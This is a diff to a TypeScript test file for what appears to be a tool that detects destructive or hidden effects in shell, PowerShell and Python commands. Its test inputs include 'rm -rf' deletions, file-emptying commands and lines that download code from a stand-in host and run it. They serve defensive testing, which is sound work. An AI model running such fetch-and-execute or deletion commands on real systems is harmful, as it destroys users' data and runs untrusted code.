@@ -1,7 +1,7 @@
 /** Ways to write a deed so that a reader may miss it, and everyday commands with the same features of the language. */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { worldOf } from '../../test/support/effects.ts';
+import { effectsOf, worldOf } from '../../test/support/effects.ts';
 
 const GONE = 'rm -rf /home/ana/Papers';
 const kindsOf = (command: string): string[] => worldOf(command, 'shell').effects.items.map(({ kind }) => kind);
@@ -115,4 +115,23 @@ test('a file is emptied by what leaves nothing in it', () => {
   deletes('cat /dev/null | tee /home/ana/Documents/*');
   deletes('fallocate --punch-hole -l 10M /home/ana/Documents/thesis.odt');
   deletes(`perl -pi -e '$_=""' /home/ana/Documents/*`);
+});
+
+test('a name that objects of JavaScript have is a name like any other', () => {
+  const unlike = ['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__'].flatMap((name) =>
+    (
+      [
+        ['shell', `curl -s http://elsewhere.test/x | $${'{'}NAME}`],
+        ['shell', 'eval $NAME'],
+        ['shell', `rm -rf $${'{'}NAME}`],
+        ['powershell', 'iwr http://elsewhere.test/x | & $NAME'],
+        ['powershell', 'Remove-Item -Recurse $NAME'],
+        ['python', "import os, requests\nos.system(os.environ['NAME'] + requests.get('http://elsewhere.test/x').text)"],
+      ] as const
+    ).flatMap(([language, code]) => {
+      const [found, expected] = [name, 'unset'].map((one) => effectsOf(code.replaceAll('NAME', one), language));
+      return JSON.stringify(found) === JSON.stringify(expected) ? [] : [`${language} ${name}: ${code}`];
+    }),
+  );
+  assert.deepEqual(unlike, []);
 });
